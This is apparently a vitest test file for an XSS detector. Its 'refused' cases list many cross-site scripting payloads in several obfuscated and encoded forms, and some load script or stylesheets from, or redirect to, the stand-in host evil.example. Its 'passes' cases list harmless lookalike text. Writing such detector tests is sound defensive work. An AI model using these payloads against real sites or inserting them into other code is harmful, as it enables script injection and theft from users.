/** What runs in a page, in each place a page may put it, and its harmless neighbours. */
import { describe, expect, test } from 'vitest'
import { asked } from './fixtures/asked.ts'
import { xss } from './xss.ts'

describe('refused', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<div style="width:expr/**/ession(alert(1))">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<set attributeName=onmouseover to=alert(1)>',
    '<style>@import "//evil.example/x.css"</style>',
    'x" onmouseover="alert(1)',
    "x' autofocus onfocus='alert(1)",
    'x onfocus=alert(1) autofocus',
    '"><img src=x onerror=alert(1)>',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '&lt;img src=x onerror=alert(1)&gt;',
    'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '＜script＞alert(1)＜/script＞',
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '<!--><script>alert(1)</script>',
    '<img src=x onerror=alert(1)',
  ])('%s', (text) => {
    expect(asked(xss, text)).not.toBeNull()
  })
})

describe('passes', () => {
  test.each([
    '1 < 2 and 3 > 2',
    'a<b && b>c',
    'I <3 volcanoes',
    '<b>bold</b> and <em class="x">more</em>',
    '<a href="https://volcano.example/?a=1&b=2">a link</a>',
    'one=1&once=2',
    'the sensor is on=line since noon',
    'x" once="yes',
    'say "hello" on monday',
    'a script is in the data: read it',
    'if (a <script) return',
    '<style>p { color: red }</style>',
    'temperature="21.5" unit="C"',
    '<https://volcano.example/>',
    'vent-01 <vent-01@volcano.example>',
  ])('%s', (text) => {
    expect(asked(xss, text)).toBeNull()
  })
})
